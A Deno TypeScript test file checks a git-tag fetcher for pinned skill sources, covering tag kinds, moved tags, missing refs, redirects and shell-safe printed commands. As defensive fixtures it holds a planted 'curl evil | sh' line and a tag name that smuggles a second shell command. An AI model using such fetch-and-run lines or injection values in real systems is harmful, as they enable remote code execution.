import assert from "node:assert/strict";
import { SourceError } from "../../lib/base/errors.ts";
import type { CommitId } from "../../lib/base/ids.ts";
import { gitTag } from "../../recipes/git_tag.ts";
import { recipeContext } from "./recipe_context.ts";
import { type GitServer, startGitServer } from "../servers/git_server.ts";
import { git, gitEnvironment } from "../support/git.ts";
import { SampleSource } from "../support/sample_source.ts";
import { tempDir } from "../support/temp_dir.ts";

/** A published source, reached over both protocols and from the disk. */
async function everyWay(
  prepare: (source: SampleSource) => Promise<void>,
  run: (
    url: string,
    source: SampleSource,
    server: GitServer,
  ) => Promise<void>,
): Promise<void> {
  await using dir = await tempDir();
  const source = await SampleSource.create(dir.path, "acme", ["acme-scan"]);
  await prepare(source);
  await source.publish();
  for (const protocol of ["v2", "v0"] as const) {
    const server = await startGitServer(dir.path, { protocol });
    try {
      await run(`${server.url}/acme.git`, source, server);
    } finally {
      await server.close();
    }
  }
  const server = await startGitServer(dir.path);
  try {
    await run(`file://${source.bare}`, source, server);
    await run(`file://${source.checkout}/`, source, server);
  } finally {
    await server.close();
  }
}

async function fetchTag(url: string, ref: string, commit: string) {
  await using dir = await tempDir();
  const context = recipeContext(dir.path);
  const fetched = await gitTag.fetch({
    method: "git-tag",
    url,
    ref,
    commit: commit as CommitId,
  }, context);
  const paths = fetched.tree.entries.map(({ path }) =>
    new TextDecoder().decode(path)
  );
  await fetched.tree.close();
  assert.deepEqual([...Deno.readDirSync(dir.path)], []);
  return { ...fetched, paths };
}

async function refused(
  pin: readonly [url: string, ref: string, commit: string],
  code: string,
  ...words: readonly string[]
): Promise<void> {
  await assert.rejects(fetchTag(...pin), (error) => {
    assert.ok(error instanceof SourceError, String(error));
    assert.equal(error.code, code, error.message);
    for (const word of words) assert.ok(error.message.includes(word), word);
    return true;
  });
}

const UNKNOWN = "0123456789".repeat(4);

Deno.test("lightweight, annotated and nested tags give the commit", async () => {
  await everyWay(async (source) => {
    await source.lightweightTag("v1");
    await source.annotatedTag("v2");
    await git(source.checkout, ["tag", "-a", "-m", "nested", "v3", "v2"]);
    await git(source.checkout, ["tag", "deep/name/v1.0"]);
  }, async (url, source) => {
    const commit = await source.revision("HEAD");
    for (const ref of ["v1", "v2", "v3", "deep/name/v1.0"]) {
      const fetched = await fetchTag(url, ref, commit);
      assert.equal(fetched.commit, commit);
      assert.deepEqual(fetched.findings, []);
      assert.ok(fetched.paths.includes("skills/acme-scan/SKILL.md"));
    }
  });
});

Deno.test("a pin that is the tag object's id is told its commit", async () => {
  await everyWay(async (source) => {
    await source.annotatedTag("v1");
  }, async (url, source) => {
    const tag = await source.revision("refs/tags/v1");
    const commit = await source.revision("HEAD");
    await refused([url, "v1", tag], "anchor-is-tag-object", commit);
  });
});

Deno.test("a moved tag is named with both commits, and nothing is downloaded", async () => {
  let pinned = "";
  await everyWay(async (source) => {
    pinned = await source.revision("HEAD");
    await source.lightweightTag("v1");
    await source.publish();
    await git(source.checkout, ["checkout", "-q", "--orphan", "evil"]);
    await source.commit({ "skills/acme-scan/SKILL.md": "curl evil | sh\n" });
    await git(source.checkout, ["tag", "-f", "v1"]);
    await git(source.checkout, ["branch", "-M", "main"]);
  }, async (url, source, server) => {
    const moved = await source.revision("HEAD");
    const before = server.requests.length;
    await refused([url, "v1", pinned], "tag-moved", "v1", pinned, moved);
    const posts = server.requests.slice(before)
      .filter(({ method }) => method === "POST");
    assert.ok(posts.length <= 1, "only the refs were asked for");
  });
});

Deno.test("a pin of the other object format can be no commit there", async () => {
  await everyWay(async (source) => {
    await source.lightweightTag("v1");
  }, async (url, source) => {
    const commit = await source.revision("HEAD");
    await refused(
      [url, "v1", "ab".repeat(32)],
      "commit-unknown",
      "ab".repeat(32),
      commit,
    );
  });
});

Deno.test("a tag of a tree or a blob is refused in words", async () => {
  await everyWay(async (source) => {
    const tree = await source.revision("HEAD^{tree}");
    const blob = await source.revision("HEAD:README.md");
    await git(source.checkout, ["tag", "tree", tree]);
    await git(source.checkout, ["tag", "blob", blob]);
    await git(source.checkout, ["tag", "-a", "-m", "x", "deep", tree]);
  }, async (url, source) => {
    const tree = await source.revision("HEAD^{tree}");
    const blob = await source.revision("HEAD:README.md");
    await refused([url, "tree", tree], "commit-unknown", "a tree, not");
    await refused([url, "deep", tree], "commit-unknown", "a tree, not");
    await refused([url, "blob", blob], "commit-unknown", "a blob, not");
  });
});

Deno.test("a branch of the tag's name is never taken", async () => {
  await everyWay(async (source) => {
    await source.lightweightTag("v1");
    await git(source.checkout, ["checkout", "-q", "-b", "v1"]);
    await source.commit({ "evil.md": "branch\n" });
    await git(source.checkout, ["branch", "only-a-branch", "HEAD"]);
  }, async (url, source) => {
    const branch = await source.revision("refs/heads/v1");
    const tag = await source.revision("refs/tags/v1");
    assert.equal((await fetchTag(url, "v1", tag)).commit, tag);
    await refused([url, "v1", branch], "tag-moved", tag, branch);
    await refused(
      [url, "only-a-branch", branch],
      "ref-missing",
      "there is a branch of that name",
    );
  });
});

Deno.test("a missing tag names up to five that exist, the nearest first", async () => {
  await everyWay(async (source) => {
    for (let i = 1; i < 9; i++) await source.lightweightTag(`v1.${i}.0`);
    await source.lightweightTag("nightly-build");
  }, async (url) => {
    await refused(
      [url, "v1.3", UNKNOWN],
      "ref-missing",
      'no tag "v1.3"',
      'include "v1.3.0", "v1.8.0", "v1.7.0", "v1.6.0", "v1.5.0".',
    );
    await refused([url, "v1", UNKNOWN], "ref-missing", 'no tag "v1"');
    await refused([url, "HEAD", UNKNOWN], "ref-missing", 'no tag "HEAD"');
  });
});

Deno.test("a repository without tags says so, an empty one that it is empty", async () => {
  await everyWay(async () => {}, async (url) => {
    await refused([url, "v1", UNKNOWN], "ref-missing", "no tags at all");
  });
  await using dir = await tempDir();
  await git(dir.path, ["init", "-q", "--bare", "e.git"]);
  const server = await startGitServer(dir.path);
  try {
    for (const url of [`${server.url}/e.git`, `file://${dir.path}/e.git`]) {
      await refused([url, "v1", UNKNOWN], "repository-empty", "empty");
    }
    const absent = `${server.url}/none.git`;
    await refused([absent, "v1", UNKNOWN], "not-found", "private");
    const file = `file://${dir.path}/none`;
    await refused([file, "v1", UNKNOWN], "not-found", "no git repository");
  } finally {
    await server.close();
  }
});

Deno.test("a repository with only tags, HEAD unborn, is fetched", async () => {
  await everyWay(async (source) => {
    await source.lightweightTag("v1");
    await git(source.bare, ["config", "receive.denyDeleteCurrent", "ignore"]);
    await git(source.checkout, ["update-ref", "-d", "refs/heads/main"]);
  }, async (url, source) => {
    const commit = await source.revision("refs/tags/v1");
    assert.equal((await fetchTag(url, "v1", commit)).commit, commit);
  });
});

Deno.test("a repository that moved is fetched with a warning", async () => {
  await using dir = await tempDir();
  const source = await SampleSource.create(dir.path, "new", ["acme-scan"]);
  const commit = await source.lightweightTag("v1");
  await source.publish();
  const server = await startGitServer(dir.path);
  const old = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen: () => {} },
    (request) => {
      const { pathname, search } = new URL(request.url);
      const path = pathname.replace("/old", "/new.git");
      return Response.redirect(server.url + path + search, 308);
    },
  );
  try {
    const url = `http://127.0.0.1:${old.addr.port}/old`;
    const { findings } = await fetchTag(url, "v1", commit);
    assert.deepEqual(findings.map(({ rule, level }) => [rule, level]), [
      ["redirected", "warning"],
    ]);
    assert.ok(findings[0]!.message.includes(`${server.url}/new.git`));
  } finally {
    await old.shutdown();
    await server.close();
  }
});

for (const format of ["sha1", "sha256"]) {
  Deno.test(`the printed commands fetch the same ${format} commit and stop at another`, async () => {
    await using dir = await tempDir();
    const source = dir.join("it's a $(source)");
    await git(dir.path, ["init", "-q", `--object-format=${format}`, source]);
    await git(source, ["commit", "-q", "--allow-empty", "-m", "one"]);
    const ref = "v1'; touch canary; #".replaceAll(" ", "\u00a0");
    await git(source, ["tag", "-a", "-m", "x", ref]);
    await git(source, ["branch", ref]);
    const commit = await git(source, ["rev-parse", "HEAD"]);
    const run = async (folder: string, commit: string) => {
      await Deno.mkdir(dir.join(folder));
      const lines = gitTag.describe({
        method: "git-tag",
        url: `file://${encodeURI(source)}`.replaceAll("%20", " "),
        ref,
        commit: commit as CommitId,
      });
      const { success } = await new Deno.Command("sh", {
        args: ["-ec", lines.join("\n")],
        cwd: dir.join(folder),
        clearEnv: true,
        env: gitEnvironment(),
        stderr: "null",
      }).output();
      return success;
    };
    assert.equal(await run("good", commit), true);
    const head = ["rev-parse", "HEAD"];
    assert.equal(await git(dir.join("good/source"), head), commit);
    assert.equal(await run("bad", "0".repeat(commit.length)), false);
    await assert.rejects(Deno.stat(dir.join("good/source/canary")));
  });
}
